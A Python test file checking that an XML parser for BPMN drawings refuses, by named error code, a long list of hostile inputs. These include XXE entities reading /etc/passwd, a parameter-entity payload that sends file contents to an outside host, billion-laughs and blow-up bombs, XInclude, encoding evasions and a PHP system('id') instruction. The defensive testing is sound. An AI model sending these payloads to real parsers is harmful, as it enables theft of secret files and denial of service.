"""What the one door to the XML parser lets in, and what it refuses, with the line."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from engine.bpmn.reading.reader import read_bpmn
from engine.bpmn.xml import BPMN, add, new_root
from engine.definition.library import Library
from engine.errors import DefinitionInvalid
from engine.markup import MAX_BYTES, MAX_DEPTH, local_name, parse_with_places, parse_xml, parse_xml_text, serialize

LAUGHS = '<!DOCTYPE a [<!ENTITY l0 "ha">' + "".join(
    f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)) + "]><a>&l9;</a>"
EXTERNAL = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'

ATTACKS: dict[str, tuple[bytes, str]] = {
    "external entity": (EXTERNAL.encode(), "xml-dtd"),
    "external entity over http": (EXTERNAL.replace("file:///etc/passwd", "http://127.0.0.1:9/x").encode(), "xml-dtd"),
    "parameter entity": (b'<!DOCTYPE a [<!ENTITY % p SYSTEM "http://127.0.0.1:9/p.dtd">%p;]><a/>', "xml-dtd"),
    "external DTD": (b'<!DOCTYPE a SYSTEM "http://127.0.0.1:9/a.dtd"><a/>', "xml-dtd"),
    "billion laughs": (LAUGHS.encode(), "xml-dtd"),
    "quadratic blow-up": (f'<!DOCTYPE a [<!ENTITY x "{"y" * 50000}">]><a>{"&x;" * 5000}</a>'.encode(), "xml-dtd"),
    "default attributes": (b'<!DOCTYPE a [<!ATTLIST a id CDATA "forged">]><a/>', "xml-dtd"),
    "doctype in lower case": (b"<!doctype a><a/>", "xml-dtd"),
    "doctype after a comment": (b"<!-- quiet -->\n<!DOCTYPE a><a/>", "xml-dtd"),
    "doctype in UTF-16 with BOM": (EXTERNAL.encode("utf-16"), "xml-dtd"),
    "doctype in UTF-16 big-endian with BOM": (b"\xfe\xff" + EXTERNAL.encode("utf-16-be"), "xml-dtd"),
    "doctype in UTF-16 without BOM": (EXTERNAL.encode("utf-16-le"), "xml-syntax"),
    "doctype in UTF-8 with BOM": (b"\xef\xbb\xbf" + EXTERNAL.encode(), "xml-dtd"),
    "doctype in GBK": (b'<?xml version="1.0" encoding="GBK"?>' + EXTERNAL.encode("gbk"), "xml-dtd"),
    "doctype in UTF-7": (b'<?xml version="1.0" encoding="UTF-7"?>' + EXTERNAL.encode("utf-7"), "xml-encoding"),
    "doctype in EBCDIC": (EXTERNAL.encode("cp037"), "xml-encoding"),
    "doctype in UTF-32": (b"\xff\xfe\x00\x00" + EXTERNAL.encode("utf-32-le"), "xml-encoding"),
    "an encoding nobody knows": (b'<?xml version="1.0" encoding="x-none"?><a/>', "xml-encoding"),
    "an encoding that decodes to anything": (b'<?xml version="1.0" encoding="rot13"?><a/>', "xml-encoding"),
    "bytes that are not UTF-8": (b"<a>\n\xff\xff</a>", "xml-encoding"),
    "XInclude": (b'<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></a>', "xml-include"),
    "an undefined entity": (b"<a>&secret;</a>", "xml-syntax"),
    "ten thousand levels": (b"<a>" * 10_000 + b"</a>" * 10_000, "xml-syntax"),
    "one level too many": (b"<a>" * (MAX_DEPTH + 1) + b"</a>" * (MAX_DEPTH + 1), "xml-depth"),
    "ninety thousand attributes": (b"<a " + b" ".join(b"a%d=''" % n for n in range(90_000)) + b"/>", "xml-attributes"),
    "one attribute twice": (b'<a id="1" id="2"/>', "xml-syntax"),
    "a megabyte of brackets": (b"<" * MAX_BYTES, "xml-size"),
    "more than a megabyte": (b"<a>" + b" " * MAX_BYTES + b"</a>", "xml-size"),
    "control characters": (b"<a>\x00\x01</a>", "xml-syntax"),
    "nothing": (b"", "xml-syntax"),
    "two roots": (b"<a/><b/>", "xml-syntax"),
    "billion laughs in the second entity": (b'<!DOCTYPE a [<!ENTITY a "1"><!ENTITY b "&a;&a;&a;">]><a>&b;</a>', "xml-dtd"),
    "laughs by parameter entities": (b'<!DOCTYPE a [<!ENTITY % a "x"><!ENTITY % b "%a;%a;">%b;]><a/>', "xml-dtd"),
    "an entity that names itself": (b'<!DOCTYPE a [<!ENTITY a "&a;">]><a>&a;</a>', "xml-dtd"),
    "an entity sent abroad": (b'<!DOCTYPE a [<!ENTITY % f SYSTEM "file:///etc/passwd">'
                              b'<!ENTITY % o "<!ENTITY s SYSTEM \'http://x/?%f;\'>">]><a/>', "xml-dtd"),
    "a doctype with a public id": (b'<!DOCTYPE a PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://127.0.0.1:9/x.dtd"><a/>', "xml-dtd"),
    "a doctype with a gap": (b"<! DOCTYPE a><a/>", "xml-dtd"),
    "a doctype that hides in a comment": (b"<!-- <!DOCTYPE a> --><a/>", "xml-dtd"),
    "an external entity by another scheme": (EXTERNAL.replace("file:///etc/passwd", "netdoc:/etc/passwd").encode(), "xml-dtd"),
    "a doctype in UTF-16 that calls itself UTF-8": (
        '<?xml version="1.0" encoding="UTF-8"?>'.encode("utf-16") + EXTERNAL.encode("utf-16-le"), "xml-dtd"),
    "UTF-16 without BOM that says so": ('<?xml version="1.0" encoding="UTF-16"?><a/>'.encode("utf-16-le"), "xml-syntax"),
    "UTF-16 in a declaration of bytes": (b'<?xml version="1.0" encoding="UTF-16"?><a/>', "xml-encoding"),
    "UTF-7 spelt in small letters": (b'<?xml version="1.0" encoding="utf-7"?>+ADw-a/+AD4-', "xml-encoding"),
    "UTF-7 without a declaration": (b"+ADwAIQ-DOCTYPE a+AD4-", "xml-syntax"),
    "half of a UTF-16 pair": (b"\xff\xfe<\x00a\x00/\x00>\x00\x00\xd8", "xml-encoding"),
    "overlong UTF-8": (b"<a>\xc0\xbc!DOCTYPE</a>", "xml-encoding"),
    "an attribute of half a megabyte": (b'<a b="' + b"x" * 500_000 + b'"/>', "xml-attributes"),
    "an attribute of references": (b'<a b="' + b"&#120;" * 100_000 + b'"/>', "xml-attributes"),
    "a hundred thousand elements": (b"<a>" + b"<b/>" * 100_001 + b"</a>", "xml-size"),
    "a thousand namespaces": (b"<a " + b" ".join(b"xmlns:n%d='u%d'" % (n, n) for n in range(1_000)) + b"/>", "xml-size"),
    "two hundred levels of attributes": (b"<a b='1'>" * 200 + b"</a>" * 200, "xml-depth"),
    "a name of half a megabyte": (b"<" + b"a" * 500_000 + b"/>", "xml-syntax"),
    "an instruction that is a declaration": (b'<a/><?xml version="1.0" encoding="UTF-7"?>', "xml-syntax"),
    "a comment that never ends": (b"<a><!-- " + b"-" * 900_000, "xml-syntax"),
    "character data that never ends": (b"<a><![CDATA[" + b"]]" * 400_000, "xml-syntax"),
    "a reference to nothing": (b"<a>&#0;</a>", "xml-syntax"),
    "XInclude deep inside": (b'<a xmlns:i="http://www.w3.org/2001/XInclude"><b><i:include href="x"/></b></a>', "xml-include"),
}


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda name: name.replace(" ", "-"))
def test_an_attack_is_refused_by_name_within_a_fifth_of_a_second(attack: str) -> None:
    source, code = ATTACKS[attack]
    begun = time.process_time()
    with pytest.raises(DefinitionInvalid) as refused:
        parse_xml(source, "attack.bpmn")
    assert time.process_time() - begun < 0.2
    problem = refused.value.problems[0]
    assert problem.code == code
    assert problem.place.file == "attack.bpmn"
    assert problem.zh and problem.en and "passwd" not in str(problem)


INSTRUCTIONS = (b'<?xml-stylesheet href="file:///etc/passwd"?><a/>', b"<a><?php system('id') ?></a>",
                b"<a>" + b"<?p i?>" * 50_000 + b"</a>", b'<?xml-model href="http://127.0.0.1:9/x.rng"?><a/>')


@pytest.mark.parametrize("source", INSTRUCTIONS, ids=["stylesheet", "php", "fifty-thousand", "model"])
def test_processing_instructions_do_nothing_and_are_left_out(source: bytes) -> None:
    begun = time.process_time()
    assert serialize(parse_xml(source)).count(b"<?") == 1
    assert time.process_time() - begun < 0.2


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda name: name.replace(" ", "-"))
def test_an_attack_that_comes_as_a_drawing_is_one_problem(attack: str) -> None:
    reading = read_bpmn(ATTACKS[attack][0].decode("utf-8", "replace"), "attack.bpmn", Library())
    assert (reading.definition, len(reading.problems)) == (None, 1)


def test_the_place_of_an_element_is_where_its_start_tag_begins() -> None:
    root, places = parse_with_places('<?xml version="1.0"\n?>\n<a\n b="1"\n>\n  <c/><d\n/></a>')
    assert [(place.line, place.column) for place in places.values()] == [(3, 1), (6, 3), (6, 7)]
    assert [each.sourceline for each in root.iter()] == [3, 6, 6]


def test_the_line_of_a_doctype_is_told() -> None:
    with pytest.raises(DefinitionInvalid) as refused:
        parse_xml(b'<?xml version="1.0"?>\n\n<!DOCTYPE a>\n<a/>')
    assert refused.value.problems[0].place.line == 3


def test_no_file_and_no_stylesheet_is_fetched(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("SECRET")
    root = parse_xml(f'<?xml-stylesheet href="{secret.as_uri()}"?><a href="{secret.as_uri()}"/>'.encode())
    assert b"SECRET" not in serialize(root)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "gb18030"])
def test_plain_chinese_xml_is_read_in_the_encodings_that_people_use(encoding: str) -> None:
    declared = '<?xml version="1.0" encoding="GB18030"?>' if encoding == "gb18030" else ""
    assert parse_xml(f"{declared}<a>上线前安全检查</a>".encode(encoding)).text == "上线前安全检查"


def test_line_numbers_survive_a_long_declaration() -> None:
    root = parse_xml(b'<?xml version="1.0"\n  encoding="UTF-8"?>\n<a>\n<b/></a>')
    assert (root.sourceline, root[0].sourceline) == (3, 4)


def test_comments_and_processing_instructions_are_left_out() -> None:
    assert [local_name(child) for child in parse_xml(b"<a><!-- c --><?p i?><b/></a>")] == ["b"]


def test_equal_trees_give_equal_bytes_that_are_read_back() -> None:
    root = new_root("definitions")
    add(root, "process", {"id": "p", "name": 'a < b & "c"'})
    assert serialize(root) == serialize(parse_xml(serialize(root)))
    assert parse_xml(serialize(root))[0].tag == f"{{{BPMN}}}process"


def test_a_text_is_read_whatever_encoding_it_names() -> None:
    assert parse_xml_text("<?xml version='1.0' encoding='gb2312'?><a>级</a>").text == "级"


def test_a_text_is_refused_like_bytes() -> None:
    for text in (LAUGHS, "<a>" * (MAX_DEPTH + 2), "<a>" + "x" * MAX_BYTES + "</a>"):
        with pytest.raises(DefinitionInvalid):
            parse_xml_text(text)


def test_a_file_of_more_lines_than_the_parser_counts_is_read_with_its_places() -> None:
    root, places = parse_with_places("<a>" + "\n" * 70_000 + "<b/></a>", "x.xml")
    assert places[root[0]].line == 70_001
